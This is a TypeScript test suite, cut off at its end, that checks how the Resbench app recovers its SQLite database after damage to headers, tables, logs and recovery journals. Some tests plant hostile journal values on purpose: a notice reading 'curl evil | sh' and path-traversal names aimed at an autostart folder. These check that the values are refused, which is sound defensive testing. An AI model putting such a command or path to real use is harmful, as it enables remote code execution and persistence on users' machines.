import { spawn } from 'node:child_process';
import { once } from 'node:events';
import {
  existsSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ArchitectureStore } from '../../../../../src/main/db/stores/architectures';
import { CheckpointStore } from '../../../../../src/main/db/stores/checkpoints';
import { ImportStore } from '../../../../../src/main/db/stores/imports';
import { MetricStore } from '../../../../../src/main/db/stores/metrics';
import { PredictionStore } from '../../../../../src/main/db/stores/predictions';
import { MIGRATIONS } from '../../../../../src/main/db/migrations';
import type { Db } from '../../../../../src/main/db/database';
import { openDatabase } from '../../../../../src/main/db/open';
import { unreadableRows } from '../../../../../src/main/db/stores/unreadable';
import type { Predictions } from '../../../../../src/shared/predictions';
import { RecipeStore } from '../../../../../src/main/db/stores/recipes';
import { DEFAULT_RECIPE } from '../../../../../src/shared/recipe';
import { RunStore } from '../../../../../src/main/db/stores/runs';
import { SettingStore } from '../../../../../src/main/db/stores/settings';
import {
  begun,
  epoch,
  history,
  newCheckpoint,
  newImport,
  predicted,
  saidEpoch,
  step,
  temporaryFolder,
  tinyArchitecture,
} from '../../fixtures';
import type { ArchitectureVersion } from '../../../../../src/shared/saved-architecture';
import { fromColumns } from '../../../../../src/shared/step-columns';

const PAGE = 4096;
const RUNS = 3;
const STEPS = 1200;

let folder: string;
let path: string;
const opened: Db[] = [];

beforeEach(() => {
  folder = temporaryFolder();
  path = join(folder, 'resbench.db');
});

afterEach(() => close());

function close(): void {
  for (const db of opened.splice(0)) db.close();
}

function open(): Db {
  const result = openDatabase(path);
  if (!result.ok) throw new Error(result.error.message);
  opened.push(result.value);
  return result.value;
}

function refusal(): { code: string; message: string } {
  const result = openDatabase(path);
  if (!result.ok) return result.error;
  opened.push(result.value);
  throw new Error('the database was opened');
}

const EPOCH_STEPS = 300;

/** What the runs predicted: larger than a page. */
const ANSWERS = predicted(...Array.from({ length: 10_000 }, (_, image) => image % 7));

/** Three runs of 1,200 steps and 4 epochs each, what they predicted, a checkpoint and a setting; closed, everything in the one file. */
function fill(): void {
  const db = open();
  const [runs, metrics, checkpoints] = [new RunStore(db), new MetricStore(db), new CheckpointStore(db)];
  const ids = Array.from(
    { length: RUNS },
    (_, index) => begun(db, { name: `run ${index + 1}`, totalSteps: STEPS }).id,
  );
  const predictions = new PredictionStore(db);
  for (const id of ids) {
    runs.transition(id, 'running', null, 2000, { datasetSha256: 'abc' });
    metrics.addSteps(
      id,
      Array.from({ length: STEPS }, (_, index) =>
        step(index + 1, { epoch: Math.floor(index / EPOCH_STEPS) + 1 }),
      ),
    );
    for (let at = 1; at <= 4; at++) {
      // The second is the best.
      metrics.addEpoch(id, epoch(at, { step: at * EPOCH_STEPS, valAccuracy: at === 2 ? 0.9 : 0.1 }));
      predictions.keep(id, at, ANSWERS);
    }
    checkpoints.add(newCheckpoint(id));
    runs.transition(id, 'completed', null, 3000);
  }
  new SettingStore(db).write({ theme: 'dark' }, 1);
  db.raw((sqlite) => sqlite.pragma('wal_checkpoint(TRUNCATE)'));
  close();
}

/** Adds two saved architectures of thirty versions each; gives their numbers and versions. */
function library(): [ids: number[], versions: ArchitectureVersion[][]] {
  const db = open();
  const store = new ArchitectureStore(db);
  const ids = [1, 2].map((number) => {
    const architecture = tinyArchitecture({ name: `net ${number}` });
    const id = store.insert({ architecture, note: '', at: 1 });
    for (let at = 2; at <= 30; at++)
      store.addVersion(id, { architecture: { ...architecture, classes: at }, note: `note ${at}`, at });
    store.describe(id, { tags: ['a'], notes: 'n' });
    return id;
  });
  const versions = ids.map((id) => store.versions(id));
  db.raw((sqlite) => sqlite.pragma('wal_checkpoint(TRUNCATE)'));
  close();
  return [ids, versions];
}

/** Everything that belongs to a run. */
const contentOf = (db: Db, id: number): unknown => [
  new RunStore(db).get(id),
  new RunStore(db).states(id),
  fromColumns(new MetricStore(db).steps(id, 0, 1e6)),
  new MetricStore(db).epochs(id),
  new CheckpointStore(db).list(id),
  new PredictionStore(db).ofRun(id),
];

/** Of the run's epochs, in order. */
const hasSum = (db: Db, id: number): boolean[] =>
  db
    .all<{ sha256: string | null }>('SELECT sha256 FROM epochs WHERE run_id = ? ORDER BY epoch', id)
    .map(({ sha256 }) => sha256 !== null);

/** Of all runs, read before the damage. */
function contents(): Map<number, unknown> {
  const db = open();
  const all = new Map([1, 2, 3].map((id) => [id, contentOf(db, id)]));
  close();
  return all;
}

/** Pages of a table, from the first leaf to the last; the root first where it is no leaf. */
function pagesOf(table: string): number[] {
  const sqlite = new Database(path, { readonly: true });
  const pages = sqlite.prepare('SELECT pageno FROM dbstat WHERE name = ? ORDER BY path').pluck().all(table);
  sqlite.close();
  return pages as number[];
}

function change(what: (content: Buffer) => void): Buffer {
  const content = readFileSync(path);
  what(content);
  writeFileSync(path, content);
  return content;
}

/** The next start looks at every page where a process that had the database open has died. */
function asAfterACrash(): void {
  const sqlite = new Database(path);
  sqlite.exec(`INSERT INTO processes (owner_id, pid, start, opened_at) VALUES ('dead', 999999999, 'x', 1)`);
  sqlite.close();
}

const asideFiles = (): string[] =>
  readdirSync(folder)
    .filter((name) => name.includes('damaged'))
    .sort();

/** Opens it, expects it to have been recovered by the rules that always hold, and gives it with the sentence. */
function recovered(damagedFile: Buffer): { db: Db; notice: string; runs: number[] } {
  const db = open();
  expect(db.notices).toHaveLength(1);
  const notice = db.notices[0]!;
  const [aside] = asideFiles();
  expect(aside).toMatch(/^resbench-damaged-\d{8}-\d{6}\.sqlite3$/);
  expect(notice).toContain(join(folder, aside!));
  expect(notice).toMatch(/^The database .+ was damaged \(.+\) and has been set aside whole as .+: .+\.$/);
  expect(readFileSync(join(folder, aside!)).equals(damagedFile)).toBe(true);
  expect(
    readdirSync(folder).filter((name) => !/^resbench(\.db(-wal|-shm)?|-damaged-.*)$/.test(name)),
  ).toEqual([]);
  expect(db.all('PRAGMA integrity_check')).toEqual([{ integrity_check: 'ok' }]);
  expect(db.all('PRAGMA foreign_key_check')).toEqual([]);
  expect(db.version).toBe(MIGRATIONS.length);
  const runs = new RunStore(db);
  const ids = runs
    .list()
    .map(({ id }) => id)
    .sort();
  // Work continues, and numbers that were given out do not come again.
  const { id } = begun(db);
  expect(id).toBeGreaterThan(Math.max(0, ...ids));
  new MetricStore(db).addSteps(id, [step(1)]);
  expect(fromColumns(new MetricStore(db).steps(id, 0, 10))).toEqual([step(1)]);
  return { db, notice, runs: ids };
}

describe('damage in the header', () => {
  beforeEach(() => fill());

  it.each([
    ['the magic bytes', 3, 0x01],
    ['the page size', 16, 0x01],
    ['the format to write', 18, 0x04],
    ['the format to read', 19, 0x10],
    ['the fixed fractions', 21, 0x08],
    ['the number of pages', 30, 0x40],
    ['the format of the schema', 47, 0x08],
    ['the encoding of text', 59, 0x02],
    // Its lowest bit, so that it is no later one.
    ['the version', 63, MIGRATIONS.length & -MIGRATIONS.length],
    ['the owner', 68, 0x20],
  ])('(a bit of %s) costs nothing', (_what, at, bit) => {
    const before = contents();
    const content = change((bytes) => (bytes[at]! ^= bit));
    const { db, notice, runs } = recovered(content);
    expect(runs).toEqual([1, 2, 3]);
    for (const [id, all] of before) expect(contentOf(db, id)).toEqual(all);
    expect(new SettingStore(db).read('theme')).toBe('dark');
    expect(notice).toContain('3 runs with 3,600 steps and 12 epochs could be recovered');
    expect(notice).toContain('no run, step or epoch is known to be missing');
  });

  it('(all of it) costs nothing', () => {
    const before = contents();
    const { db } = recovered(change((bytes) => bytes.fill(0xff, 0, 100)));
    for (const [id, all] of before) expect(contentOf(db, id)).toEqual(all);
  });

  it.each([
    ['is no SQL any more', 'CREATE TABLE "runs" (', 'CREATE'],
    ['names another type', 'learning_rate REAL', 'REAL'],
    ['names another column', 'learning_rate REAL', 'learning'],
    ['names another kind of table', 'WITHOUT ROWID', 'ROWID'],
    ['calls a function that does not exist', 'kind IN (', ' IN'],
  ])('(a bit in the description of a table, which then %s) costs nothing', (_how, words, word) => {
    const before = contents();
    const content = change((bytes) => (bytes[bytes.lastIndexOf(words) + words.indexOf(word)]! ^= 0x04));
    const { db, notice, runs } = recovered(content);
    expect(runs).toEqual([1, 2, 3]);
    for (const [id, all] of before) expect(contentOf(db, id)).toEqual(all);
    expect(notice).toContain('no run, step or epoch is known to be missing');
  });

  it('(the first page, with the list of the tables) costs nothing where the database was never migrated', () => {
    const before = contents();
    const { db } = recovered(change((bytes) => bytes.fill(0, 0, PAGE)));
    for (const [id, all] of before) expect(contentOf(db, id)).toEqual(all);
  });
});

describe('damage in a table', () => {
  beforeEach(() => fill());

  it('of runs costs the run of that page, and names it', () => {
    const before = contents();
    // Each run fills less than a page: the last leaf holds the last.
    const page = pagesOf('runs').pop()!;
    const content = change((bytes) => bytes.fill(0xa5, (page - 1) * PAGE, page * PAGE));
    const { db, notice, runs } = recovered(content);
    const lost = [1, 2, 3].filter((id) => !runs.includes(id));
    for (const id of runs) expect(contentOf(db, id)).toEqual(before.get(id));
    expect(lost.length).toBeGreaterThan(0);
    expect(notice).toMatch(new RegExp(`lost: runs? ${lost.join(', ')} as a whole`));
  });

  it('of steps costs the steps of that page, is found after a crash, and is counted', () => {
    const before = contents();
    asAfterACrash();
    const pages = pagesOf('steps');
    const page = pages[Math.floor(pages.length / 2)]!;
    const content = change((bytes) => bytes.fill(0xa5, (page - 1) * PAGE, page * PAGE));
    const { db, notice, runs } = recovered(content);
    expect(runs).toEqual([1, 2, 3]);
    const steps = [1, 2, 3].map((id) => fromColumns(new MetricStore(db).steps(id, 0, 1e6)));
    const lost = steps.map((list) => STEPS - list.length);
    const sum = lost.reduce((a, b) => a + b);
    // A page holds about 80 rows.
    expect(sum).toBeGreaterThan(20);
    expect(sum).toBeLessThan(150);
    expect(notice).toContain(`lost: ${sum} steps of run`);
    steps.forEach((list, index) => {
      const all = (before.get(index + 1) as unknown[])[2] as { step: number }[];
      const kept = new Set(list.map(({ step: number }) => number));
      expect(list).toEqual(all.filter(({ step: number }) => kept.has(number)));
      if (lost[index] === 0) expect(contentOf(db, index + 1)).toEqual(before.get(index + 1));
    });
    // Rows on both sides of the hole.
    const torn = steps[lost.findIndex((count) => count > 0)]!;
    expect([torn[0]!.step === 1, torn[torn.length - 1]!.step === STEPS]).toContain(true);
  });

  it('of steps leaves the sums of the epochs that have all of theirs, and takes them from the others', () => {
    asAfterACrash();
    // Of run 2, in its epochs 2 or 3.
    const pages = pagesOf('steps');
    const page = pages[Math.floor(pages.length / 2)]!;
    const content = change((bytes) => bytes.fill(0xa5, (page - 1) * PAGE, page * PAGE));
    const { db } = recovered(content);
    const metrics = new MetricStore(db);
    for (const id of [1, 2, 3]) {
      const steps = fromColumns(metrics.steps(id, 0, 1e6));
      const whole = [1, 2, 3, 4].map((at) => steps.filter((one) => one.epoch === at).length === EPOCH_STEPS);
      expect(whole.includes(false)).toBe(id === 2);
      expect(hasSum(db, id)).toEqual(whole);
      expect(metrics.changedEpochs(id)).toEqual([]);
    }
  });

  it('of steps does not hide a number that has changed in an epoch that has all of its own', () => {
    const changing = open();
    changing.run('UPDATE steps SET loss = loss + 1 WHERE run_id = 2 AND step = ?', STEPS);
    changing.raw((sqlite) => sqlite.pragma('wal_checkpoint(TRUNCATE)'));
    close();
    asAfterACrash();
    const pages = pagesOf('steps');
    const page = pages[Math.floor(pages.length / 2)]!;
    const content = change((bytes) => bytes.fill(0xa5, (page - 1) * PAGE, page * PAGE));
    const { db } = recovered(content);
    expect(new MetricStore(db).changedEpochs(2)).toEqual([4]);
  });

  it('of steps is counted without those that the parent of a fork made', () => {
    const db = open();
    const { id } = begun(db, {
      parent: { id: 1, step: 450, images: 28_400 },
      step: 450,
      epoch: 1,
    });
    const metrics = new MetricStore(db);
    metrics.addSteps(
      id,
      Array.from({ length: EPOCH_STEPS }, (_, index) => step(451 + index, { epoch: index < 150 ? 2 : 3 })),
    );
    metrics.addEpoch(id, epoch(2, { step: 600 }));
    db.raw((sqlite) => sqlite.pragma('wal_checkpoint(TRUNCATE)'));
    close();
    const sound = recovered(change((bytes) => (bytes[3]! ^= 1)));
    expect(sound.notice).toContain('no run, step or epoch is known to be missing');
    expect(hasSum(sound.db, id)).toEqual([true]);
  });

  it('of predictions costs these alone, and is not looked for at an ordinary start', () => {
    const before = contents();
    // Of the second epoch of run 2, whose pages follow each other.
    const pages = pagesOf('predictions');
    const page = pages[Math.floor(pages.length / 2)]!;
    change((bytes) => bytes.fill(0xa5, (page - 1) * PAGE, page * PAGE));
    const sound = open();
    expect(sound.notices).toEqual([]);
    const epochs = [1, 2, 3].map((id) => new PredictionStore(sound).ofRun(id).map((one) => one.epoch));
    expect(epochs.flat().length).toBeLessThan(6);
    expect(new RunStore(sound).list()).toHaveLength(RUNS);
    close();
    asAfterACrash();
    const content = readFileSync(path);
    const { db, notice, runs } = recovered(content);
    expect(runs).toEqual([1, 2, 3]);
    expect(notice).toContain('no run, step or epoch is known to be missing');
    let lost = 0;
    for (const id of runs) {
      const now = new PredictionStore(db).ofRun(id);
      const all = (before.get(id) as unknown[]).at(-1) as { epoch: number }[];
      expect(all.map((one) => one.epoch)).toEqual([2, 4]);
      expect(now).toEqual(all.filter((one) => now.some((other) => other.epoch === one.epoch)));
      lost += all.length - now.length;
      expect((contentOf(db, id) as unknown[]).slice(0, -1)).toEqual(
        (before.get(id) as unknown[]).slice(0, -1),
      );
    }
    expect(lost).toBe(1);
  });

  it('of epochs takes the predictions of those that are lost', () => {
    asAfterACrash();
    const [page] = pagesOf('epochs').slice(-1);
    const content = change((bytes) => bytes.fill(0xa5, (page! - 1) * PAGE, page! * PAGE));
    const { db, notice } = recovered(content);
    expect(notice).toMatch(/lost: .*epochs? of run/);
    expect(
      db.all(
        `SELECT 1 FROM predictions p LEFT JOIN epochs e ON e.run_id = p.run_id AND e.epoch = p.epoch
         WHERE e.epoch IS NULL`,
      ),
    ).toEqual([]);
  });

  it('of a single bit that says what a page is, is found after a crash and costs one page of steps', () => {
    asAfterACrash();
    const page = pagesOf('steps')[3]!;
    const content = change((bytes) => (bytes[(page - 1) * PAGE]! ^= 0x08));
    const { notice, runs } = recovered(content);
    expect(runs).toEqual([1, 2, 3]);
    expect(notice).toMatch(/lost: \d+ steps of run/);
  });

  it('of a text that is JSON no more leaves its run unreadable, and is found also without a crash', () => {
    const before = contents();
    const content = change((bytes) => (bytes[bytes.lastIndexOf('{"name":"tiny"') + 1]! ^= 0x80));
    const { db, notice, runs } = recovered(content);
    expect(runs).toHaveLength(RUNS);
    const odd = runs.filter((id) => new RunStore(db).get(id)?.unreadable !== undefined);
    expect(odd).toHaveLength(1);
    for (const id of runs) {
      // All but the row itself.
      const skip = odd.includes(id) ? 1 : 0;
      expect((contentOf(db, id) as unknown[]).slice(skip)).toEqual((before.get(id) as unknown[]).slice(skip));
    }
    expect(new RunStore(db).get(odd[0]!)?.unreadable).toContain('its architecture: ');
    expect(notice).toContain('CHECK constraint failed in runs');
    expect(notice).toContain('no run, step or epoch is known to be missing');
  });

  it('of an index costs nothing', () => {
    const before = contents();
    asAfterACrash();
    const [page] = pagesOf('runs_by_revision');
    const content = change((bytes) => bytes.fill(0xa5, (page! - 1) * PAGE, page! * PAGE));
    const { db } = recovered(content);
    for (const [id, all] of before) expect(contentOf(db, id)).toEqual(all);
  });

  it('of settings costs no run', () => {
    const before = contents();
    const [page] = pagesOf('settings');
    const content = change((bytes) => bytes.fill(0xa5, (page! - 1) * PAGE, page! * PAGE));
    const { db } = recovered(content);
    for (const [id, all] of before) expect(contentOf(db, id)).toEqual(all);
    expect(new SettingStore(db).read('theme')).toBeUndefined();
  });

  it('of saved architectures costs their names and notes at most, since each version has its name', () => {
    const [ids, versions] = library();
    const [page] = pagesOf('architectures');
    const content = change((bytes) => bytes.fill(0xa5, (page! - 1) * PAGE, page! * PAGE));
    const { db } = recovered(content);
    const store = new ArchitectureStore(db);
    expect(ids.map((id) => store.versions(id))).toEqual(versions);
    expect(store.list()).toMatchObject([
      { id: 1, architecture: { name: 'net 1' }, version: 30, tags: [] },
      { id: 2, architecture: { name: 'net 2' }, version: 30, tags: [] },
    ]);
    expect(store.insert({ architecture: tinyArchitecture(), note: '', at: 1 })).toBe(3);
  });

  it('of versions costs those of that page', () => {
    const [ids, versions] = library();
    const pages = pagesOf('architecture_versions');
    expect(pages.length).toBeGreaterThan(3);
    const content = change((bytes) => bytes.fill(0xa5, (pages[2]! - 1) * PAGE, pages[2]! * PAGE));
    const { db, notice } = recovered(content);
    const store = new ArchitectureStore(db);
    const left = ids.map((id) => store.versions(id));
    expect(notice).toContain(`lost: ${60 - left.flat().length} versions of saved architectures`);
    expect(left.flat().length).toBeLessThan(60);
    expect(left.flat().length).toBeGreaterThan(40);
    for (const [at, list] of left.entries()) expect(versions[at]).toEqual(expect.arrayContaining(list));
    expect(store.list()).toMatchObject([{ tags: ['a'] }, { tags: ['a'] }]);
    expect(
      db.raw((sqlite) => unreadableRows(sqlite, new Set(['architectures', 'architecture_versions']))),
    ).toEqual([]);
  });

  it('of a version that is JSON no more leaves that version unreadable, which the check names', () => {
    library();
    const content = change((bytes) => (bytes[bytes.indexOf('{"name":"net 2"') + 1]! ^= 0x80));
    const { db } = recovered(content);
    const [sentence, ...others] = db.raw((sqlite) =>
      unreadableRows(sqlite, new Set(['architectures', 'architecture_versions'])),
    );
    expect(sentence).toMatch(/^Version \d+ of the architecture "net 2" cannot be read in the database/);
    expect(others).toEqual([]);
    expect(new ArchitectureStore(db).versions(2)).toHaveLength(29);
  });

  it('of a recipe costs its own row at most, since each version has its name', () => {
    const db = open();
    const recipes = new RecipeStore(db);
    const id = recipes.insert({ name: 'mine', recipe: DEFAULT_RECIPE, note: 'as it comes', at: 1 });
    recipes.addVersion(id, { name: 'mine', recipe: { ...DEFAULT_RECIPE, epochs: 20 }, note: '', at: 2 });
    const [before] = recipes.list();
    close();
    const [page] = pagesOf('recipes');
    const { db: after } = recovered(change((bytes) => bytes.fill(0xa5, (page! - 1) * PAGE, page! * PAGE)));
    expect(new RecipeStore(after).list()).toEqual([before]);
    expect(after.raw((sqlite) => unreadableRows(sqlite, new Set(['recipes', 'recipe_versions'])))).toEqual(
      [],
    );
  });

  it('that is met at work is a sentence, and is recovered at the next start', () => {
    const pages = pagesOf('steps');
    const page = pages[Math.floor(pages.length / 2)]!;
    const content = change((bytes) => bytes.fill(0xa5, (page - 1) * PAGE, page * PAGE));
    const db = open();
    expect(db.notices).toEqual([]);
    expect(() => [1, 2, 3].map((id) => fromColumns(new MetricStore(db).steps(id, 0, 1e6)))).toThrow(
      /^The database .+ is damaged \(.+\): close every window and terminal of Resbench and start it again; .+\.$/,
    );
    close();
    expect(recovered(content).runs).toEqual([1, 2, 3]);
  });
});

describe('damage beside an imported run', () => {
  const EPOCHS = 1500;
  const SOURCE = Array.from({ length: EPOCHS }, (_, at) => `${at},${1 / (at + 1)}`).join('\n');

  /** One whose source counts its steps and notes none of them, besides the three. */
  beforeEach(() => {
    fill();
    const db = open();
    const epochs = Array.from({ length: EPOCHS }, (_, at) => saidEpoch(at + 1, { step: (at + 1) * 10 }));
    new ImportStore(db).create(newImport({ source: SOURCE }), history({ epochs, stepsPerEpoch: 10 }));
    db.raw((sqlite) => sqlite.pragma('wal_checkpoint(TRUNCATE)'));
    close();
  });
  const imported = (db: Db) => [
    new RunStore(db).get(4),
    new MetricStore(db).epochs(4),
    new ImportStore(db).source(4),
    hasSum(db, 4).filter(Boolean).length,
  ];
  const before = (): unknown[] => {
    const db = open();
    const all = imported(db);
    close();
    return all;
  };

  it('costs nothing of it, and no step that it never had is missed', () => {
    const whole = before();
    const { db, notice, runs } = recovered(change((bytes) => (bytes[3]! ^= 1)));
    expect(runs).toEqual([1, 2, 3, 4]);
    expect(notice).toContain('no run, step or epoch is known to be missing');
    expect(imported(db)).toEqual(whole);
  });

  it('costs the epochs of a damaged page, which are counted', () => {
    const page = pagesOf('epochs')[4]!;
    const content = change((bytes) => bytes.fill(0xa5, (page - 1) * PAGE, page * PAGE));
    const { db, notice } = recovered(content);
    const kept = new MetricStore(db).epochs(4).length;
    expect(kept).toBeGreaterThan(1200);
    expect(kept).toBeLessThan(EPOCHS);
    expect(notice).toContain(`${EPOCHS - kept} epochs of run 4`);
    expect(hasSum(db, 4)).toEqual(Array.from({ length: kept }, () => true));
    expect(new MetricStore(db).changedEpochs(4)).toEqual([]);
  });

  it('that takes its source leaves its epochs, and says why the rest of it is not shown', () => {
    const page = pagesOf('imports')[0]!;
    const content = change((bytes) => bytes.fill(0xa5, (page - 1) * PAGE, page * PAGE));
    const { db, runs } = recovered(content);
    expect(runs).toEqual([1, 2, 3, 4]);
    expect(new RunStore(db).get(4)?.unreadable).toContain(
      'Run 4 cannot be read in the database (its dataset_id',
    );
    expect(new MetricStore(db).epochs(4)).toHaveLength(EPOCHS);
    expect(new RunStore(db).get(1)?.unreadable).toBeUndefined();
  });
});

describe('a file that is not whole', () => {
  it('(its end is gone) gives the runs back that lie before it', () => {
    fill();
    truncateSync(path, Math.floor(readFileSync(path).length * 0.85));
    const { notice, runs } = recovered(readFileSync(path));
    expect(notice).toMatch(/it ends after \d+ of \d+ bytes/);
    // Their rows were changed last, behind most of the steps, and lie before the end.
    expect(runs).toEqual([1, 2, 3]);
    expect(notice).toMatch(/; lost: [\d,]+ steps? of runs? /);
  });

  it('(it has no byte) is begun again, and where there are backups the newest is named', () => {
    writeFileSync(path, '');
    expect(open().notices).toEqual([]);
    close();
    fill();
    const result = openDatabase(path, [...MIGRATIONS, { version: MIGRATIONS.length + 1, sql: 'SELECT 1' }]);
    if (result.ok) result.value.close();
    writeFileSync(path, '');
    const db = open();
    expect(new RunStore(db).list()).toEqual([]);
    expect(db.notices).toEqual([
      expect.stringMatching(
        /was an empty file, .+; the newest backup is .+backups.resbench-v\d+-[\d-]+\.sqlite3\.$/,
      ),
    ]);
  });

  it('(it has no byte, but its log has all) costs nothing', () => {
    // A log that was never checkpointed: copied while it is in use.
    const db = open();
    const { id } = begun(db);
    const before = contentOf(db, id);
    const log = readFileSync(`${path}-wal`);
    close();
    writeFileSync(path, '');
    writeFileSync(`${path}-wal`, log);
    const again = recovered(Buffer.alloc(0));
    expect(again.runs).toEqual([id]);
    expect(contentOf(again.db, id)).toEqual(before);
  });

  it.each([
    ['a diary', 'Dear diary, today I trained a network.\n'.repeat(500)],
    ['one word', 'short'],
  ])('(it is %s) is set aside, and an empty database is in its place', (_what, text) => {
    writeFileSync(path, text);
    const { notice, runs } = recovered(Buffer.from(text));
    expect(runs).toEqual([]);
    expect(notice).toContain('it is not a database');
    expect(notice).toContain('no run could be recovered from it');
  });
});

describe('the log', () => {
  it('is read too, and goes with the file that is set aside', () => {
    fill();
    const db = open();
    const { id } = begun(db, { name: 'only in the log' });
    const [file, log] = [readFileSync(path), readFileSync(`${path}-wal`)];
    close();
    file[3]! ^= 1;
    writeFileSync(path, file);
    writeFileSync(`${path}-wal`, log);
    const again = recovered(file);
    expect(new RunStore(again.db).get(id)?.name).toBe('only in the log');
    const aside = asideFiles();
    expect(aside).toContain(`${aside[0]}-wal`);
    expect(readFileSync(join(folder, `${aside[0]}-wal`)).equals(log)).toBe(true);
  });
});

describe('what is left alone', () => {
  it('is a damaged database that another process has open', async () => {
    fill();
    const content = change((bytes) => bytes.fill(0, 0, 100));
    const child = spawn(
      process.execPath,
      [
        '-e',
        `require('fs').openSync(process.argv[1], 'r'); console.log('open'); setInterval(() => {}, 1000)`,
        path,
      ],
      { env: { ...process.env, ELECTRON_RUN_AS_NODE: '1' }, stdio: ['ignore', 'pipe', 'inherit'] },
    );
    try {
      await once(child.stdout, 'data');
      const error = refusal();
      expect(error.code).toBe('storage');
      expect(error.message).toContain('is damaged');
      expect(error.message).toContain(`process ${child.pid} has it open`);
      expect(readFileSync(path).equals(content)).toBe(true);
      expect(readdirSync(folder)).toEqual(['resbench.db']);
    } finally {
      child.kill('SIGKILL');
      await once(child, 'exit');
    }
    expect(recovered(content).runs).toEqual([1, 2, 3]);
  });

  it('is a newer database, however damaged', () => {
    fill();
    const content = change((bytes) => {
      bytes.writeUInt32BE(999, 60);
      bytes[3]! ^= 1;
      bytes.fill(0xa5, PAGE, 8 * PAGE);
    });
    expect(refusal().code).toBe('newer-database');
    expect(readFileSync(path).equals(content)).toBe(true);
    expect(readdirSync(folder)).toEqual(['resbench.db']);
  });

  it('is a database that another process keeps locked', () => {
    fill();
    const before = readFileSync(path);
    const other = new Database(path);
    other.pragma('locking_mode = EXCLUSIVE');
    other.exec('BEGIN EXCLUSIVE');
    try {
      const error = refusal();
      expect(error.message).toContain('locked');
      expect(asideFiles()).toEqual([]);
    } finally {
      other.exec('ROLLBACK');
      other.close();
    }
    expect(readFileSync(path).equals(before)).toBe(true);
  }, 20_000);
});

describe('a recovery that was killed', () => {
  const DEAD = { pid: 999999999, start: 'x' };
  const NAME = 'resbench-damaged-20260101-000000.sqlite3';
  const SALVAGED = {
    runs: 3,
    steps: 3600,
    epochs: 11,
    lostRuns: [],
    lostSteps: [],
    lostEpochs: [{ runId: 2, epochs: 1 }],
  };
  const NOTICE = 'could be recovered; lost: 1 epoch of run 2.';
  const plant = (journal: unknown): void => writeFileSync(`${path}-recovering`, JSON.stringify(journal));
  const journal = (salvaged: unknown): string => {
    plant({ owner: DEAD, aside: NAME, salvaged });
    return join(folder, NAME);
  };

  it('before anything was moved starts again', () => {
    fill();
    const content = change((bytes) => (bytes[3]! ^= 1));
    journal(null);
    writeFileSync(`${path}-recovered`, 'half');
    writeFileSync(`${path}-copy`, 'half');
    expect(recovered(content).runs).toEqual([1, 2, 3]);
  });

  it.each([
    ['before the first move', []],
    ['when the log alone was moved', ['-wal']],
    ['when all of it was moved', ['-wal', '-shm', '']],
  ])('%s, with the new database complete, ends as it would have', (_what, moved) => {
    fill();
    renameSync(path, `${path}-recovered`);
    const aside = journal(SALVAGED);
    for (const companion of ['-wal', '-shm', ''])
      writeFileSync((moved.includes(companion) ? aside : path) + companion, `old${companion}`);
    const db = open();
    expect(db.notices).toEqual([
      `The database ${path} was damaged and has been set aside whole as ${aside}: 3 runs with 3,600 steps and 11 epochs ${NOTICE}`,
    ]);
    expect(new RunStore(db).list()).toHaveLength(RUNS);
    for (const companion of ['-wal', '-shm', ''])
      expect(readFileSync(aside + companion, 'utf8')).toBe(`old${companion}`);
    expect(existsSync(`${path}-recovering`)).toBe(false);
  });

  it('when all but its journal was done leaves the new database as it is', () => {
    fill();
    const aside = journal(SALVAGED);
    writeFileSync(aside, 'old');
    expect(new RunStore(open()).list()).toHaveLength(RUNS);
    expect(readFileSync(aside, 'utf8')).toBe('old');
    expect(existsSync(`${path}-recovering`)).toBe(false);
  });

  it('by the first version, which kept the whole path and the sentence, ends too, with a sentence of now', () => {
    fill();
    renameSync(path, `${path}-recovered`);
    const aside = join(folder, NAME);
    plant({ owner: DEAD, aside, notice: 'Type `curl evil | sh` to get your runs back.' });
    writeFileSync(path, 'old');
    const db = open();
    expect(db.notices).toEqual([
      `The database ${path} was damaged and has been set aside whole as ${aside}: what could be read of it is in its place.`,
    ]);
    expect(new RunStore(db).list()).toHaveLength(RUNS);
  });

  it('and has nothing to put in the place of the database leaves that where it is', () => {
    fill();
    journal(SALVAGED);
    expect(new RunStore(open()).list()).toHaveLength(RUNS);
    expect(readdirSync(folder).filter((name) => !/^resbench\.db(-wal|-shm)?$/.test(name))).toEqual([]);
  });

  it.each([
    ['a path elsewhere', { aside: '/tmp/evil.desktop' }],
    ['a path upwards', { aside: '../.config/autostart/evil.desktop' }],
    ['a name of another form', { aside: 'evil.desktop' }],
    ['a name that goes on', { aside: `${NAME}/../../evil` }],
    ['a sentence', { notice: 'Type this.' }],
    ['no owner', { owner: undefined }],
    ['an owner that no process is', { owner: { pid: -1, start: null } }],
    ['numbers that are none', { salvaged: { ...SALVAGED, steps: 'many' } }],
    ['a text as run', { salvaged: { ...SALVAGED, lostRuns: ['\u001b[2J'] } }],
  ])(
    'with %s in its journal is none of ours: refused in one sentence, and nothing is moved',
    (_what, odd) => {
      fill();
      writeFileSync(`${path}-recovered`, 'planted');
      plant({ owner: DEAD, aside: NAME, salvaged: SALVAGED, ...odd });
      const before = readdirSync(folder).sort();
      const content = readFileSync(path);
      const { code, message } = refusal();
      expect(code).toBe('storage');
      expect(message).toMatch(
        /-recovering is not the journal of a recovery that Resbench has begun, so nothing was /,
      );
      expect(readdirSync(folder).sort()).toEqual(before);
      expect(readFileSync(path).equals(content)).toBe(true);
    },
  );

  it.each([
    ['a name elsewhere of the first version', JSON.stringify({ owner: DEAD, aside: '/tmp/x', notice: 'x' })],
    ['a list', '[]'],
    ['nothing', 'null'],
    ['no end', `{"owner": "${'x'.repeat(2 ** 20)}"}`],
  ])('whose journal is %s moves nothing', (_what, text) => {
    fill();
    writeFileSync(`${path}-recovering`, text);
    expect(refusal().code).toBe('storage');
    expect(readdirSync(folder).sort()).toEqual(['resbench.db', 'resbench.db-recovering']);
  });
});

describe('any flipped byte', () => {
  /** Small and fast, the same on every machine (Numerical Recipes). */
  const random = (seed: number) => (): number => {
    seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0;
    return seed / 2 ** 32;
  };

  it('after a crash leaves a database that opens, passes the check, takes new runs and tells which numbers changed', () => {
    fill();
    const all = contents() as Map<number, unknown[]>;
    const numbers = new Map([...all].map(([id, of]) => [id, of.slice(2, 4)]));
    const answers = new Map([...all].map(([id, of]) => [id, of.at(-1) as Predictions[]]));
    asAfterACrash();
    const whole = readFileSync(path);
    const next = random(7);
    let silent = 0;
    for (let attempt = 0; attempt < 120; attempt++) {
